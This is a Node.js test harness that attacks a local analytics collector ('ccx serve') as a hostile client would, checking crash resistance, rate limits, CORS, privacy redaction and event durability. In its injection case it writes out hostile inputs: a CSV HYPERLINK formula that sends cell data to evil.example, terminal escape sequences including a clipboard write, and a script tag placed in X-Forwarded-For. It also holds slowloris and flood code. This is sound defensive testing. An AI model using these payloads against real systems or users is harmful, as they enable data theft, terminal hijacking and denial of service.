// npm run test:hostile — `ccx serve` attacked as a hostile client would, every case on 127.0.0.1 (issue 15). Each case
// starts its own `bin/run.js serve` (own folder, own config), attacks it, stops it, loads its event log with
// `ccx ingest probe --from-log` and checks every acknowledged event is in DuckDB exactly once. Prints one line per
// case and the totals: cases, crashes (serve exiting on its own), acknowledged events, lost, duplicated. Exit 1 when a
// case fails. CCX_RUN_JS=/path/to/bin/run.js runs it against another build (e.g. an older one, to see it fail).
import {spawn, spawnSync} from 'node:child_process'
import {existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync} from 'node:fs'
import {request} from 'node:http'
import {connect, isIP} from 'node:net'
import {tmpdir} from 'node:os'
import {join, resolve} from 'node:path'

const ROOT = resolve(import.meta.dirname, '..')
const RUN = process.env.CCX_RUN_JS ? resolve(process.env.CCX_RUN_JS) : join(ROOT, 'bin/run.js')
const WORK = mkdtempSync(join(tmpdir(), 'ccx-hostile-'))
const SITE = {id: 'canon-cn', key: 'k-hostile', domain: 'www.canon-like.cn', allowedOrigins: ['http://allowed.test']}
const SHENZHEN_IP = '113.116.1.1'
const PHONE = '13812345678'
// a browser's user agent: Node's fetch says "node", which the bot list counts as a script (no directives, no reports)
const BROWSER_UA =
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1'
// does this build have the admin listener? (an older one serves /live and /metrics on the public port)
const MODERN = spawnSync(process.execPath, [RUN, 'serve', '--help'], {encoding: 'utf8'}).stdout.includes('--admin-port')

const totals = {cases: 0, passed: 0, crashes: 0, acked: 0, lost: 0, duplicated: 0}
const sleep = (ms) => new Promise((r) => setTimeout(r, ms))

function ccx(args, cwd, env = {}) {
  const r = spawnSync(process.execPath, [RUN, ...args], {
    cwd,
    encoding: 'utf8',
    env: {...process.env, NO_COLOR: '1', ...env},
    maxBuffer: 1 << 28,
  })
  return {code: r.status, stdout: r.stdout, stderr: r.stderr}
}

/** A folder with a config for one case. */
function caseDir(name, serve = {}, extra = {}) {
  const dir = join(WORK, name)
  mkdirSync(dir, {recursive: true})
  const config = {sites: [SITE], serve: {ratePerSecond: 100000, rateBurst: 100000, ...serve}, ...extra}
  writeFileSync(join(dir, 'ccx.config.json'), JSON.stringify(config, null, 2))
  return dir
}

/** Starts serve; resolves once every process listens. Counts a crash when it exits without being told to. */
function startServe(dir, {args = [], shellPrefix, workers = 1} = {}) {
  const logDir = join(dir, 'log')
  const argv = [RUN, 'serve', '--port', '0', '--log-dir', logDir, ...(MODERN ? ['--admin-port', '0'] : []), ...args]
  if (workers > 1) argv.push('--workers', String(workers))
  const child = shellPrefix
    ? spawn('/bin/sh', ['-c', `${shellPrefix} exec "$0" "$@"`, process.execPath, ...argv], {cwd: dir, stdio: ['ignore', 'ignore', 'pipe']})
    : spawn(process.execPath, argv, {cwd: dir, stdio: ['ignore', 'ignore', 'pipe']})
  const s = {child, logDir, dir, stderr: '', expectedExit: false, listening: [], acked: new Set(), exited: false}
  child.once('exit', () => {
    s.exited = true
    if (!s.expectedExit) totals.crashes++
  })
  return new Promise((resolvePromise, reject) => {
    const timer = setTimeout(() => reject(new Error(`serve did not start: ${s.stderr}`)), 60_000)
    child.stderr.on('data', (d) => {
      s.stderr += d
      for (const m of s.stderr.matchAll(/^\{"event":"listening".*$/gm)) {
        const line = JSON.parse(m[0])
        if (!s.listening.some((l) => l.pid === line.pid)) s.listening.push(line)
      }
      if (s.listening.length >= workers && !s.port) {
        clearTimeout(timer)
        s.port = s.listening[0].port
        s.base = `http://127.0.0.1:${s.port}`
        s.admin = MODERN ? `http://127.0.0.1:${s.listening[0].adminPort}` : s.base
        resolvePromise(s)
      }
    })
    child.once('exit', (code) => reject(new Error(`serve exited ${code}: ${s.stderr}`)))
  })
}

async function stopServe(s) {
  if (s.exited) return
  s.expectedExit = true
  const exited = new Promise((r) => s.child.once('exit', r))
  s.child.kill('SIGTERM')
  await exited
}

let eventNo = 0
function events(n, extra = {}) {
  return Array.from({length: n}, (_, i) => ({
    id: `e${++eventNo}`,
    type: i === 0 ? 'pageview' : 'click',
    url: 'https://www.canon-like.cn/service/stations',
    title: '佳能维修站查询',
    ...extra,
  }))
}

/** POSTs a batch; when acknowledged (200, every event accepted) its ids join the serve's ledger. */
async function post(s, visitor, evs, headers = {}, rawBody) {
  const body = rawBody ?? JSON.stringify({site: SITE.id, key: SITE.key, visitor_id: visitor, visit_count: 1, events: evs})
  try {
    // a client gives up after 15 s (a connection node:cluster handed to a worker as it died is never answered)
    const res = await fetch(`${s.base}/collect`, {
      method: 'POST',
      body,
      headers: {'content-type': 'text/plain', 'user-agent': BROWSER_UA, ...headers},
      signal: AbortSignal.timeout(15_000),
    })
    const text = await res.text()
    let answer = {}
    try {
      answer = JSON.parse(text)
    } catch {
      // not JSON
    }
    if (res.status === 200 && answer.accepted === evs.length) for (const e of evs) s.acked.add(`${SITE.id}:${visitor}:${e.id}`)
    return {status: res.status, answer, headers: res.headers}
  } catch (error) {
    if (error.name === 'TimeoutError') s.timeouts = (s.timeouts ?? 0) + 1
    return {status: 0, error: error.cause?.code ?? error.message}
  }
}

/** Loads the case's log into DuckDB and compares with its ledger. */
async function settle(s, result) {
  await stopServe(s)
  const db = join(s.dir, 'ccx.duckdb')
  const ingest = ccx(['ingest', 'probe', '--from-log', s.logDir, '--db', db, '--json'], s.dir)
  if (ingest.code !== 0 && ingest.code !== 3) throw new Error(`ingest failed (${ingest.code}): ${ingest.stderr.slice(0, 400)}`)
  const counts = existsSync(db) ? await query(db, `select event_id, count(*)::INTEGER n from raw_probe_events group by 1`) : []
  const inDb = new Map(counts.map((r) => [r.event_id, r.n]))
  let lost = 0
  let duplicated = 0
  for (const id of s.acked) {
    const n = inDb.get(id) ?? 0
    if (n === 0) lost++
    if (n > 1) duplicated++
  }
  const open = readdirSync(s.logDir).filter((f) => f.endsWith('.open')).length
  Object.assign(result, {acked: s.acked.size, lost, duplicated, openSegments: open})
  totals.acked += s.acked.size
  totals.lost += lost
  totals.duplicated += duplicated
  return db
}

async function query(db, sql) {
  const {DuckDBInstance} = await import('@duckdb/node-api')
  const inst = await DuckDBInstance.create(db, {access_mode: 'READ_ONLY'})
  const conn = await inst.connect()
  try {
    return (await conn.runAndReadAll(sql)).getRowObjectsJS()
  } finally {
    conn.closeSync()
    inst.closeSync()
  }
}

/** Runs `loop(i)` on `n` concurrent clients until `stop()` says so. */
async function clients(n, loop) {
  await Promise.all(Array.from({length: n}, (_, i) => loop(i)))
}

function rssMb(pid) {
  try {
    const m = /VmRSS:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))
    return m ? Number(m[1]) / 1024 : 0
  } catch {
    return 0
  }
}

async function metricsText(s) {
  try {
    return await (await fetch(`${s.admin}/metrics`)).text()
  } catch {
    return ''
  }
}

const metric = (text, name, labels = '') => {
  const m = new RegExp(`^${name.replace(/[{}]/g, '\\$&')}${labels ? `\\{${labels.replace(/[{}]/g, '\\$&')}\\}` : ''} (\\d+)$`, 'm').exec(
    text,
  )
  return m ? Number(m[1]) : 0
}

// ── the cases ─────────────────────────────────────────────────────────────────────────────────────────────────────

/** 1. The event log's disk fills up: no acknowledged event lost, no partial line left, /healthz says so. */
async function diskFull() {
  const dir = caseDir('1-disk-full', {sync: 'ack'})
  const logDir = join(dir, 'log')
  mkdirSync(logDir)
  // a 1 MiB tmpfs when we may mount one (root); else a file size limit (a real partial write: EFBIG)
  const tmpfs = !process.env.HOSTILE_NO_TMPFS && spawnSync('mount', ['-t', 'tmpfs', '-o', 'size=1m', 'tmpfs', logDir]).status === 0
  const s = await startServe(dir, tmpfs ? {} : {shellPrefix: 'ulimit -f 512;'})
  const result = {how: tmpfs ? 'tmpfs 1 MiB' : 'ulimit -f 256 KiB'}
  try {
    let failures = 0
    let healthzFull = false
    let n = 0
    const pad = 'x'.repeat(900)
    await clients(4, async (c) => {
      while (failures < 20 && n < 8000) {
        n++
        const r = await post(s, `disk-${c}`, events(2, {url: `https://www.canon-like.cn/${pad}`}))
        if (r.status === 200) continue
        if (r.status !== 500) throw new Error(`unexpected answer ${r.status} ${JSON.stringify(r.answer)}`)
        failures++
        if (process.env.HOSTILE_DEBUG) console.log(r.status, r.answer, r.error)
        if (tmpfs && !healthzFull) {
          const h = await fetch(`${s.base}/healthz`).then(async (x) => ({status: x.status, body: await x.json()}))
          if (h.status === 503 && h.body.log?.state === 'write_failed') healthzFull = true
        }
      }
    })
    result.failed = failures
    result.healthz503 = tmpfs ? healthzFull : 'n/a'
    if (tmpfs) spawnSync('mount', ['-o', 'remount,size=8m', logDir])
    let after = 0
    for (let i = 0; i < 30; i++) if ((await post(s, 'disk-after', events(1))).status === 200) after++
    result.afterFreed = after
    await settle(s, result)
    result.pass = failures > 0 && after === 30 && (!tmpfs || healthzFull) && result.lost === 0 && result.duplicated === 0
  } finally {
    await stopServe(s)
    if (tmpfs) {
      // keep the log for a look after a failure? It is loaded already; the mount goes
      spawnSync('umount', [logDir])
    }
  }
  return result
}

/** 2. A byte that is not UTF-8 in a batch; a legitimate U+FFFD in another. */
async function invalidUtf8() {
  const dir = caseDir('2-utf8')
  const s = await startServe(dir)
  const result = {}
  const bad = events(21)
  const text = JSON.stringify({
    site: SITE.id,
    key: SITE.key,
    visitor_id: 'utf-bad',
    visit_count: 1,
    events: bad.map((e, i) => (i === 7 ? {...e, title: 'broken ZZ'} : e)),
  })
  const body = Buffer.from(text)
  body[body.indexOf('ZZ')] = 0xc3 // a lead byte without its continuation
  const r = await post(s, 'utf-bad', bad, {}, body)
  result.invalid = `${r.status} ${r.answer.error ?? ''} ${r.answer.message ?? ''}`.trim()
  const title = 'Ersatzzeichen \uFFFD bleibt'
  const good = events(5, {title})
  const g = await post(s, 'utf-good', good)
  result.fffd = g.status
  const db = await settle(s, result)
  const kept = await query(db, `select count(*)::INTEGER n from raw_probe_events where visitor_id = 'utf-good' and title = '${title}'`)
  result.fffdKept = kept[0].n
  result.pass = result.lost === 0 && g.status === 200 && result.fffdKept === 5 && r.status === 400
  return result
}

/** 3. `--workers 2`: workers SIGKILLed under load, one after another. */
const KILLS = 8

/**
 * Kills `target` so that the primary reads its channel's end before it learns of the death (SIGCHLD) and then, before
 * that, relays a live update from `survivor` to it: the order that made the primary send to a dead worker (issue 15,
 * #3). Left to chance the window is microseconds wide and a plain kill rarely hits it. The survivor is stopped until
 * the primary has read what it sent, then the primary is stopped; the target sends, is killed (its channel ends),
 * and only then does the survivor answer its waiting requests, so its updates queue behind the dead channel's end.
 * On resume libuv serves the channels in that order and signals last.
 */
async function killBetweenChannelEndAndExit(primary, target, survivor) {
  process.kill(survivor, 'SIGSTOP')
  await sleep(200)
  process.kill(primary, 'SIGSTOP')
  await sleep(100)
  try {
    process.kill(target, 'SIGKILL')
  } finally {
    await sleep(50)
    process.kill(survivor, 'SIGCONT')
    await sleep(200)
    process.kill(primary, 'SIGCONT')
  }
}
async function workerKill() {
  const dir = caseDir('3-workers')
  const s = await startServe(dir, {workers: 2})
  const result = {kills: 0, orderedKills: 0}
  let stop = false
  const load = clients(24, async (c) => {
    let i = 0
    while (!stop) await post(s, `w-${c}-${i++ % 50}`, events(2))
  })
  const killed = new Set()
  for (let k = 0; k < KILLS; k++) {
    await sleep(300)
    const target = s.listening.find((l) => !killed.has(l.pid) && l.pid !== s.child.pid)
    if (!target) break
    killed.add(target.pid)
    const survivor = s.listening.findLast((l) => !killed.has(l.pid) && l.pid !== s.child.pid)
    try {
      // every other kill (the first among them) in the order that crashed the primary; the others at random moments
      if (k % 2 === 0 && survivor) {
        await killBetweenChannelEndAndExit(s.child.pid, target.pid, survivor.pid)
        result.orderedKills++
      } else process.kill(target.pid, 'SIGKILL')
      result.kills++
    } catch {
      // gone already
    }
    const before = s.listening.length
    const deadline = Date.now() + 30_000
    const t0 = Date.now()
    while (s.listening.length === before && !s.exited && Date.now() < deadline) await sleep(50)
    if (process.env.HOSTILE_DEBUG) console.log(`kill ${k + 1}: restarted after ${Date.now() - t0} ms`)
  }
  await sleep(400)
  stop = true
  await load
  result.primaryAlive = !s.exited
  result.restarted = s.listening.length - 2
  result.unansweredConnections = s.timeouts ?? 0
  await settle(s, result)
  result.pass =
    result.primaryAlive && result.restarted >= result.kills && result.kills === KILLS && result.openSegments === 0 && result.lost === 0
  return result
}

/** 4. /live and /metrics on the public port; twenty /live clients that never read, under load. */
async function readEndpoints() {
  const dir = caseDir('4-live')
  const s = await startServe(dir)
  const result = {}
  result.publicLive =
    (await fetch(`${s.base}/live`)
      .then((r) => (r.body?.cancel(), r.status))
      .catch(() => 0)) || 0
  result.publicMetrics = await fetch(`${s.base}/metrics`).then((r) => r.status)
  const slow = []
  for (let i = 0; i < 20; i++) {
    const socket = connect(new URL(s.admin).port, '127.0.0.1')
    socket.on('error', () => {})
    socket.write('GET /live HTTP/1.1\r\nHost: x\r\n\r\n')
    socket.pause()
    slow.push(socket)
  }
  const rss0 = rssMb(s.child.pid)
  let peak = rss0
  // ~2.5 KB per live update: a client that never reads fills the kernel's buffers (~4 MB) and then serve's
  const url = 'https://www.canon-like.cn/service/' + 'x'.repeat(1990)
  const title = '佳能'.repeat(250)
  const until = Date.now() + 15_000
  await clients(6, async (c) => {
    let i = 0
    while (Date.now() < until) {
      await post(s, `live-${c}-${i++}`, events(1, {url, title}))
      if (i % 50 === 0) peak = Math.max(peak, rssMb(s.child.pid))
    }
  })
  result.rssGrowthMb = Math.round(peak - rss0)
  result.droppedSlowReaders = metric(await metricsText(s), 'ccx_live_dropped_clients_total', 'reason="slow_reader"')
  for (const socket of slow) socket.destroy()
  await settle(s, result)
  // Whether a slow reader is dropped within the run depends on how much the kernel buffers for it first (a figure);
  // the RSS bound leaves room for the heap growing with the load itself (~100 MB here, with or without slow readers).
  result.pass = result.publicLive !== 200 && result.publicMetrics !== 200 && result.rssGrowthMb < 300 && result.lost === 0
  return result
}

/** 5. Forged X-Forwarded-For behind a trusted proxy (127.0.0.1). */
async function forgedForwardedFor() {
  const dir = caseDir('5-xff', {trustProxy: true, trustedProxies: ['127.0.0.1'], ratePerSecond: 5, rateBurst: 10})
  const s = await startServe(dir)
  const result = {}
  const started = Date.now()
  let passed = 0
  for (let i = 0; i < 300; i++) {
    // the attacker writes any left part; the proxy appends the address it saw (198.51.100.7)
    const r = await post(s, `xff-${i}`, events(1), {'x-forwarded-for': `${(i * 7919) % 223}.${i % 256}.1.${i % 250}, 198.51.100.7`})
    if (r.status === 200) passed++
  }
  const seconds = (Date.now() - started) / 1000
  result.passed = `${passed}/300`
  const allowed = 10 + Math.ceil(5 * seconds) + 1
  for (let i = 0; i < 3; i++) await post(s, `xff-script-${i}`, events(1), {'x-forwarded-for': '<script>alert(1)</script>'})
  await sleep(1100)
  const db = await settle(s, result)
  const ips = (await query(db, `select distinct ip from raw_probe_events`)).map((r) => r.ip)
  result.badStoredIps = ips.filter((ip) => isIP(ip) === 0).length
  result.pass = passed <= allowed && result.badStoredIps === 0 && result.lost === 0
  return result
}

/** 6. A flood from many addresses: in-flight and memory limits answer 503 with Retry-After; memory stays bounded. */
async function flood() {
  const MAX_IN_FLIGHT = 64
  const dir = caseDir('6-flood', {
    trustProxy: true,
    trustedProxies: ['127.0.0.1'],
    sync: 'ack',
    maxInFlight: MAX_IN_FLIGHT,
    maxMemoryMb: 400,
    requestTimeoutMs: 60_000,
  })
  const s = await startServe(dir)
  const result = {}
  const rss0 = rssMb(s.child.pid)
  let peak = rss0
  // Whether 200 clients alone keep more than 64 requests in flight depends on how fast this machine answers them (a
  // fast one never does): requests whose body never ends hold the slots first, so the flood meets a full server.
  const stalled = Array.from({length: MAX_IN_FLIGHT}, () => {
    const socket = connect(s.port, '127.0.0.1', () =>
      socket.write('POST /collect HTTP/1.1\r\nHost: x\r\nContent-Type: text/plain\r\nContent-Length: 1000\r\n\r\n{"site":'),
    )
    socket.on('error', () => {})
    return socket
  })
  const fullBy = Date.now() + 30_000
  while (metric(await metricsText(s), 'ccx_in_flight') < MAX_IN_FLIGHT) {
    if (Date.now() > fullBy) throw new Error(`the ${MAX_IN_FLIGHT} stalled requests were not all in flight within 30 s`)
    await new Promise((r) => setTimeout(r, 50))
  }
  const statuses = {}
  let retryAfter = 0
  const until = Date.now() + 8000
  // the stalled requests go half-way through: the second half floods a server with its slots free (accepted load)
  const release = setTimeout(() => stalled.forEach((socket) => socket.destroy()), 4000)
  const sampler = setInterval(() => (peak = Math.max(peak, rssMb(s.child.pid))), 100)
  await clients(200, async (c) => {
    let i = 0
    while (Date.now() < until) {
      const r = await post(s, `flood-${c}-${i++}`, events(3), {'x-forwarded-for': `10.${c % 256}.${i % 256}.${(c * 31 + i) % 250}`})
      statuses[r.status] = (statuses[r.status] ?? 0) + 1
      if (r.status === 503 && r.headers?.get('retry-after')) retryAfter++
    }
  })
  clearInterval(sampler)
  clearTimeout(release)
  for (const socket of stalled) socket.destroy()
  result.statuses = JSON.stringify(statuses)
  result.peakRssMb = Math.round(peak)
  const h = await fetch(`${s.base}/healthz`).then((r) => r.status)
  result.healthzAfter = h
  await settle(s, result)
  result.pass = retryAfter > 0 && result.peakRssMb < 600 && h === 200 && result.lost === 0 && !statuses[0]
  return result
}

/** 7. CORS: an origin that is not the site's. */
async function cors() {
  const dir = caseDir('7-cors')
  const s = await startServe(dir)
  const result = {}
  const preflight = (origin) =>
    fetch(`${s.base}/collect`, {method: 'OPTIONS', headers: {origin, 'access-control-request-method': 'POST'}}).then((r) => ({
      status: r.status,
      allow: r.headers.get('access-control-allow-origin'),
    }))
  const evil = await preflight('https://evil.example')
  const own = await preflight('https://www.canon-like.cn')
  const evilPost = await post(s, 'cors-evil', events(1), {origin: 'https://evil.example'})
  result.evilPreflight = `${evil.status} ${evil.allow ?? '-'}`
  result.ownPreflight = `${own.status} ${own.allow ?? '-'}`
  result.evilPost = evilPost.status
  await settle(s, result)
  result.pass = evil.allow === null && own.allow === 'https://www.canon-like.cn' && evilPost.status === 403 && result.lost === 0
  return result
}

/** 8. Escape sequences into `ccx top`, formula cells into CSV. */
async function injection() {
  const dir = caseDir('8-injection')
  const s = await startServe(dir)
  const result = {}
  const ESC = '\u001b'
  const visitor = `v${ESC}]0;pwned\u0007${ESC}]52;c;ZWNobyBoaQ==\u0007${ESC}[2J`
  const formula = '=HYPERLINK("http://evil.example/?q="&A1,"查看")'
  const referrer = `https://www.baidu.com/s?wd=${encodeURIComponent(formula)}`
  for (let v = 0; v < 3; v++) {
    await post(s, `${visitor}${v}`, events(1, {title: formula, referrer}), {'x-forwarded-for': SHENZHEN_IP})
  }
  const top = ccx(['top', '--url', s.admin, '--once'], dir)
  result.topExit = top.code
  result.topRawEscapes = top.stdout.split(`${ESC}]`).length - 1
  const db = await settle(s, result)
  ccx(['run', '--db', db], dir)
  const report = ccx(['report', 'keywords', '--db', db, '--csv', '--min-visitors', '1', '--no-benchmarks'], dir)
  result.reportExit = report.code
  const cells = report.stdout.split('\n').flatMap((line) => line.split(','))
  result.formulaCells = cells.filter((c) => /^"?[=+@]/.test(c)).length
  result.neutralised = cells.filter((c) => c.startsWith('"\'=') || c.startsWith("'=")).length
  result.pass = top.code === 0 && result.topRawEscapes === 0 && report.code === 0 && result.formulaCells === 0 && result.neutralised > 0
  return result
}

/** 9. Privacy: the lead form's phone, addresses (privacy.ip = truncate), secrets of exec job steps. */
async function privacy() {
  const secret = 'tok-9f8e7d6c5b4a'
  const literal = 'lit-7a6b5c4d3e'
  const dir = caseDir(
    '9-privacy',
    {trustProxy: true},
    {
      privacy: {ip: 'truncate'},
      jobs: [
        {
          name: 'upload',
          schedule: '0 3 * * *',
          // a literal token in a header, and one from the environment that the failing command echoes
          steps: [
            {kind: 'exec', command: `echo -H "Authorization: Bearer ${literal}" >/dev/null; echo "refused: $UPLOAD_TOKEN" >&2; exit 7`},
          ],
        },
      ],
    },
  )
  const s = await startServe(dir)
  const result = {}
  await post(s, 'lead-1', events(1), {'x-forwarded-for': SHENZHEN_IP})
  // what probe.js sends when a visitor submits ccx's lead form
  await post(s, 'lead-1', [{id: 'lead-1', type: 'lead', directive_id: 'd1', props: JSON.stringify({phone: PHONE})}], {
    'x-forwarded-for': SHENZHEN_IP,
  })
  const db = await settle(s, result)
  const logText = readdirSync(s.logDir)
    .filter((f) => f.endsWith('.ndjson'))
    .map((f) => readFileSync(join(s.logDir, f), 'utf8'))
    .join('')
  const rows = await query(db, `select ip, props from raw_probe_events`)
  const stored = logText + JSON.stringify(rows)
  result.rawPhone = stored.includes(PHONE)
  result.rawIp = stored.includes(SHENZHEN_IP)
  const job = ccx(['jobs', 'run', 'upload', '--db', db], dir, {UPLOAD_TOKEN: secret})
  const history = ccx(['jobs', 'history', '--db', db, '--json'], dir)
  const runId = JSON.parse(history.stdout || '{}').runs?.[0]?.run_id ?? 'none'
  const steps = ccx(['jobs', 'history', '--db', db, '--json', '--run', runId], dir)
  const shown = job.stdout + job.stderr + history.stdout + steps.stdout
  result.jobSteps = (JSON.parse(steps.stdout || '{}').steps ?? []).length
  result.secretsShown = [secret, literal].filter((x) => shown.includes(x)).length
  result.pass = !result.rawPhone && !result.rawIp && result.jobSteps === 1 && result.secretsShown === 0 && result.lost === 0
  return result
}

/** A body streamed in chunks past the limit (or declared huge): the answer the client reads, or how it failed. */
function oversized(port, {declared}) {
  return new Promise((resolvePromise) => {
    const headers = {'content-type': 'text/plain', ...(declared ? {'content-length': String(declared)} : {})}
    const req = request({host: '127.0.0.1', port, path: '/collect', method: 'POST', headers}, (res) => {
      let body = ''
      res.on('data', (d) => (body += d))
      res.on('end', () => resolvePromise(`${res.statusCode} ${body.includes('body_too_large') ? 'body_too_large' : body.slice(0, 40)}`))
      res.on('error', (e) => resolvePromise(e.code ?? e.message))
    })
    req.on('error', (e) => resolvePromise(e.code ?? e.message))
    const piece = Buffer.alloc(16 * 1024, 0x78)
    let sent = 0
    const total = declared ?? 1024 * 1024
    const more = () => {
      while (sent < total) {
        const chunk = piece.subarray(0, Math.min(piece.length, total - sent))
        sent += chunk.length
        if (!req.write(chunk)) return void req.once('drain', more)
      }
      req.end()
    }
    more()
  })
}

/** 10. Oversized bodies get a readable 413; slowloris connections are counted once each. */
async function oversizeAndSlowloris() {
  const dir = caseDir('10-limits', {requestTimeoutMs: 1000})
  const s = await startServe(dir)
  const result = {}
  result.chunked1MiB = await oversized(s.port, {})
  result.declared2MiB = await oversized(s.port, {declared: 2 * 1024 * 1024})
  const before = await metricsText(s)
  const slow = 20
  await Promise.all(
    Array.from(
      {length: slow},
      () =>
        new Promise((resolvePromise) => {
          const socket = connect(s.port, '127.0.0.1', () => socket.write('POST /collect HTTP/1.1\r\nHost: x\r\n'))
          socket.on('data', () => socket.write('X-Slow: 1\r\n', () => socket.destroy()))
          socket.on('error', () => {})
          socket.on('close', resolvePromise)
        }),
    ),
  )
  await sleep(300)
  const after = await metricsText(s)
  const delta = (labels) => metric(after, 'ccx_rejected_requests_total', labels) - metric(before, 'ccx_rejected_requests_total', labels)
  result.slowloris = slow
  result.countedTimeout = delta('reason="timeout"')
  result.countedBadRequest = delta('reason="bad_request"')
  await settle(s, result)
  result.pass =
    result.chunked1MiB === '413 body_too_large' &&
    result.declared2MiB === '413 body_too_large' &&
    result.countedTimeout === slow &&
    result.countedBadRequest === 0
  return result
}

const CASES = [
  ['disk full on the event log', diskFull],
  ['invalid UTF-8 in a body', invalidUtf8],
  ['--workers 2, workers killed under load', workerKill],
  ['/live and /metrics; slow /live readers', readEndpoints],
  ['forged X-Forwarded-For', forgedForwardedFor],
  ['flood from many addresses', flood],
  ["CORS: an origin not the site's", cors],
  ['escape sequences (top), formula cells (CSV)', injection],
  ['privacy: lead phone, IPs, job secrets', privacy],
  ['oversized bodies; slowloris counts', oversizeAndSlowloris],
]

const only = process.argv.slice(2).map(Number).filter(Boolean)
console.log(`ccx serve, hostile clients on 127.0.0.1 (${RUN}${MODERN ? '' : ', a build without the admin listener'})`)
for (const [i, [name, run]] of CASES.entries()) {
  if (only.length > 0 && !only.includes(i + 1)) continue
  totals.cases++
  const started = Date.now()
  let result
  try {
    result = await run()
  } catch (error) {
    result = {pass: false, error: error.message.slice(0, 300)}
  }
  if (result.pass) totals.passed++
  const {pass, ...figures} = result
  const shown = Object.entries(figures)
    .map(([k, v]) => `${k}=${v}`)
    .join(' ')
  console.log(`${pass ? 'PASS' : 'FAIL'} ${String(i + 1).padStart(2)}. ${name} (${((Date.now() - started) / 1000).toFixed(1)} s): ${shown}`)
}
console.log(
  `\ncases ${totals.cases}, passed ${totals.passed}, crashes ${totals.crashes}, acknowledged events ${totals.acked}, ` +
    `lost ${totals.lost}, duplicated ${totals.duplicated}`,
)
rmSync(WORK, {recursive: true, force: true})
process.exit(totals.passed === totals.cases && totals.crashes === 0 && totals.lost === 0 && totals.duplicated === 0 ? 0 : 1)
